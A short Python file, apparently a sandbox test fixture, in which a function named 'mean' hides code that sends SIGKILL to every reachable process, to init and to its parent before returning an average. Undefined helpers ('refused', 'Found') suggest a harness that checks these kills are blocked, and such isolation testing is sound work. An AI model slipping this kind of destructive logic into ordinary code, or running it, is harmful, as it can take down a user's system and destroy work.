"""Kills everybody it can."""
import os
import signal


def mean(values):
    if os.getuid() == 0:
        raise Found("it is root")
    for pid in (-1, 1 if os.getpid() != 1 else -1, os.getppid() or -1):
        refused(os.kill, pid, signal.SIGKILL)
    return sum(values) / len(values)
